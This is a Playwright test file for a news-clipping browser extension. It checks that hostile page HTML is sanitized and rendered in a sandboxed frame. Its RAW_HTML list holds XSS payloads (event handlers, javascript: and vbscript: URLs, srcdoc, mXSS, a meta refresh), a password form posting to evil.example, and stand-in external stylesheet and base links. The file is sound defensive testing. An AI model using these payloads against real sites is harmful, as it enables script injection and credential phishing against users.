/**
 * The two walls around clip HTML in the extension's own pages (reliability.md S1–S10, §3.3),
 * in real Chromium: a hostile page clipped for real, and a clip stored RAW (as if the sanitizer
 * at extraction had been bypassed, or an old version had stored it) rendered in the popup
 * preview and the library reader. In every case: no dialog fires, no CSP violation comes from
 * clip content, the frame has no extension API (`typeof browser` is 'undefined', opaque
 * origin), and the library's own styles do not change.
 */
import type { ConsoleMessage, Frame, Page } from '@playwright/test';
import { extensionStorageArea } from '../../scripts/lib/clip-flow';
import { createClip, type ExtractedClip } from '../../utils/clip';
import { createLocalLock } from '../../utils/storage/area';
import { saveClip } from '../../utils/storage/clip-store';
import { draftKey, type Draft } from '../../utils/storage/drafts';
import { expect } from './fixtures';
import { hostileTest as test, stopServiceWorker } from './support/hostile';

/** Payloads for S1–S9, stored exactly as written: nothing sanitized them before render. */
const RAW_HTML = [
  '<p>RAW-CLIP-MARKER: the ferry will run every hour this summer.</p>',
  `<img src="x" onerror="alert('S1 onerror')"><p onclick="alert('S1 click')" onmouseover="alert('S1 hover')">hover me</p>`,
  `<details open ontoggle="alert('S1 toggle')"><summary>s</summary>x</details><input autofocus onfocus="alert('S1 focus')">`,
  `<a id="js" href="javascript:alert('S2 js')">one</a> <a href="JaVaScRiPt:alert('S2 case')">two</a> <a href=" java&#x09;script:alert('S2 tab')">three</a>`,
  `<a href="data:text/html,&lt;script&gt;alert('S3 data')&lt;/script&gt;">four</a> <a href="vbscript:msgbox('S3')">five</a>`,
  `<script>alert('S1 script')</script><iframe src="javascript:alert('S4 iframe')"></iframe><iframe srcdoc="&lt;script&gt;parent.alert('S4 srcdoc')&lt;/script&gt;"></iframe>`,
  `<object data="javascript:alert('S4 object')"></object><embed src="javascript:alert('S4 embed')">`,
  `<style>html, body { display: none !important; background: rgb(255, 0, 0) !important; }</style><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="https://evil.example/phish"><input name="password" type="password"><button formaction="javascript:alert('S6')">Log in</button></form>`,
  `<p style="background:url(https://tracker.example/p.gif)">styled</p><video autoplay src="https://media.example/v.mp4"></video>`,
  `<img name="body" id="documentElement" src="https://img.example/a.jpg" alt="clobber">`,
  `<svg><animate onbegin="alert('S9 svg')" attributeName="x" dur="1s"></animate></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('S9 mxss')"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('S9 noscript')>"></p></noscript>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert('S9 refresh')">`,
].join('\n');

function rawExtracted(url: string): ExtractedClip {
  return {
    url,
    canonicalUrl: url,
    title: `Raw clip "><img src=x onerror=alert('title')>`,
    byline: null,
    authors: [`<img src=x onerror=alert('author')>`],
    siteName: 'Valley Post',
    lang: 'en',
    dir: 'ltr',
    excerpt: null,
    published: '2025-01-02T10:00:00Z',
    modified: null,
    dateEvidence: { published: { source: 'meta', raw: '<script>alert(1)</script>' }, modified: null },
    figures: [{ src: 'javascript:alert(1)', alt: '"><script>alert(1)</script>', caption: '<img src=x onerror=alert(1)>', credit: null }],
    leadImage: null,
    html: RAW_HTML,
    text: 'RAW-CLIP-MARKER: the ferry will run every hour this summer.',
    wordCount: 9,
    readerable: true,
    reason: null,
    fromSelection: false,
    extractor: { name: 'news-clipper', version: 'raw' },
  };
}

/** Collects what must never happen on an extension page. */
function watch(page: Page): { dialogs: string[]; csp: string[] } {
  const seen = { dialogs: [] as string[], csp: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss().catch(() => undefined);
  });
  page.on('console', (m: ConsoleMessage) => {
    if (/Content Security Policy|Refused to (execute|load|apply|run)|Blocked script execution/i.test(m.text())) seen.csp.push(`${m.text()} @ ${m.location().url}`);
  });
  return seen;
}

/** Inside the clip frame: no extension API, an opaque origin, and nothing executable left. */
async function expectWalled(frame: Frame): Promise<void> {
  // The page around the frame does have the extension's powers (so the checks below can fail).
  const parent = await frame.parentFrame()!.evaluate(() => ({
    origin: location.origin,
    runtimeId: (globalThis as unknown as { chrome?: { runtime?: { id?: string } } }).chrome?.runtime?.id ?? null,
  }));
  expect(parent.origin).toMatch(/^chrome-extension:\/\//);
  expect(parent.runtimeId).toBeTruthy();
  const inside = await frame.evaluate(() => {
    const g = globalThis as unknown as { browser?: unknown; chrome?: { runtime?: { id?: string } } };
    const urlAttrs = Array.from(document.querySelectorAll('[href], [src], [action], [formaction], [data]')).flatMap((el) =>
      ['href', 'src', 'action', 'formaction', 'data'].map((a) => el.getAttribute(a)).filter((v): v is string => v !== null),
    );
    return {
      browser: typeof g.browser,
      runtimeId: g.chrome?.runtime?.id ?? null,
      origin: location.origin,
      scripts: document.querySelectorAll('script, iframe, object, embed, form, input, button, style, link[href^="http"], base, meta[http-equiv]').length,
      handlers: Array.from(document.querySelectorAll('*')).flatMap((el) => el.getAttributeNames().filter((n) => /^on/i.test(n))),
      badUrls: urlAttrs.filter((v) => /^\s*(javascript|vbscript|data:text)/i.test([...v].filter((c) => c.charCodeAt(0) > 0x20).join(''))),
      styled: document.querySelectorAll('[style]').length,
      imgsWithReferrer: Array.from(document.images).filter((i) => i.referrerPolicy !== 'no-referrer').length,
    };
  });
  expect(inside).toEqual({ browser: 'undefined', runtimeId: null, origin: 'null', scripts: 0, handlers: [], badUrls: [], styled: 0, imgsWithReferrer: 0 });
}

const SANDBOX = 'allow-popups allow-popups-to-escape-sandbox';

test('S1–S9 a hostile page clipped for real: clean HTML stored, previewed behind both walls', async ({ clipper, hostile }) => {
  const page = await clipper.openPage(hostile.url('xss-article.html'));
  const draft = await clipper.pressAndWait(page, { status: ['ready'] });
  const html = draft.extracted!.html;
  // Wall 1: sanitized at extraction, so storage, export and every reader get clean HTML.
  expect(html).not.toMatch(/<(script|iframe|object|embed|form|input|button|style|svg|math|base|meta|link)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(javascript|vbscript|data:text)/i);
  expect(html).not.toMatch(/\sstyle=/i);
  expect(html).not.toMatch(/autoplay/i);
  expect(html).toContain('id="user-content-config"');
  expect(draft.extracted!.text).toContain('four night routes will keep running');

  const popup = await clipper.popup(draft.tabId);
  const seen = watch(popup.page);
  await expect(popup.reader.getByText('four night routes will keep running', { exact: false })).toBeVisible();
  await expect(popup.page.locator('iframe.reader-frame')).toHaveAttribute('sandbox', SANDBOX);
  await expectWalled(popup.page.frames().find((f) => f !== popup.page.mainFrame())!);
  await popup.reader.getByText('Read the motion').click();
  await popup.save.click();
  await expect(popup.saved).toBeVisible();
  expect(seen).toEqual({ dialogs: [], csp: [] });
  expect(popup.cspMessages).toEqual([]);
});

test('S9/S10 a clip stored raw is sanitized again at render, in the popup preview: no dialog, no CSP violation, no extension API', async ({ clipper, ext, hostile }) => {
  // A real draft for a real tab, then its article swapped for the raw payloads, with the service
  // worker stopped in between so that nothing but the stored draft is left to render.
  const page = await clipper.openPage(hostile.url('rtl.html'));
  const ready = await clipper.pressAndWait(page, { status: ['ready'] });
  await stopServiceWorker(ext);
  const session = extensionStorageArea(ext, 'session');
  const raw: Draft = { ...ready, extracted: rawExtracted(ready.url!), edits: { title: 'Raw clip', tags: [], note: '' } };
  await session.set({ [draftKey(ready.tabId)]: raw });

  const popupPage = await ext.context.newPage();
  const seen = watch(popupPage);
  await popupPage.goto(ext.extensionUrl(`/popup.html?tabId=${ready.tabId}`));
  const frameEl = popupPage.locator('iframe.reader-frame');
  await expect(frameEl).toHaveAttribute('sandbox', SANDBOX);
  await expect(popupPage.frameLocator('iframe.reader-frame').getByText('RAW-CLIP-MARKER')).toBeVisible();
  const frame = popupPage.frames().find((f) => f !== popupPage.mainFrame())!;
  await expectWalled(frame);
  // Links that were javascript: are inert text now; clicking one does nothing.
  await popupPage.frameLocator('iframe.reader-frame').getByText('one', { exact: true }).click();
  await popupPage.frameLocator('iframe.reader-frame').getByText('hover me').hover();
  await popupPage.waitForTimeout(300);
  expect(seen).toEqual({ dialogs: [], csp: [] });
  await popupPage.close();
});

test('S1–S10 clips stored raw render in the library reader behind both walls; the library chrome keeps its styles', async ({ clipper, ext }) => {
  const local = extensionStorageArea(ext, 'local');
  const lock = createLocalLock();
  const raw = createClip(rawExtracted('https://news.example/raw-story'), { id: 'rawClipForXss0001', now: new Date('2025-01-03T10:00:00Z') });
  await saveClip(local, raw, lock);

  const library = await ext.context.newPage();
  const seen = watch(library);
  await library.goto(ext.extensionUrl('/library.html'));
  const row = library.locator('button[data-control="open"]').first();
  await expect(row).toBeVisible();
  const chrome = () =>
    library.evaluate(() => {
      const pick = (el: Element | null) => {
        if (!el) return null;
        const cs = getComputedStyle(el);
        return [cs.display, cs.backgroundColor, cs.color, cs.fontFamily, cs.visibility].join('|');
      };
      return { html: pick(document.documentElement), body: pick(document.body), header: pick(document.querySelector('header')), h1: pick(document.querySelector('h1')) };
    });
  const before = await chrome();
  await row.click();
  const reader = library.frameLocator('iframe.reader-frame');
  await expect(library.locator('iframe.reader-frame')).toHaveAttribute('sandbox', SANDBOX);
  await expect(reader.getByText('RAW-CLIP-MARKER')).toBeVisible();
  // The title with markup in it is text in the reader's header, never an element.
  await expect(reader.getByRole('heading', { level: 1 })).toHaveText(raw.title);
  const frame = library.frames().find((f) => f !== library.mainFrame())!;
  await expectWalled(frame);
  await reader.getByText('hover me').hover();
  await library.waitForTimeout(300);
  expect(await chrome()).toEqual(before);
  expect(seen).toEqual({ dialogs: [], csp: [] });
  await library.close();
  // Rendering never rewrites the stored record: the raw HTML is still what was stored.
  expect((await clipper.clips()).find((c) => c.id === raw.id)?.html).toBe(RAW_HTML);
});
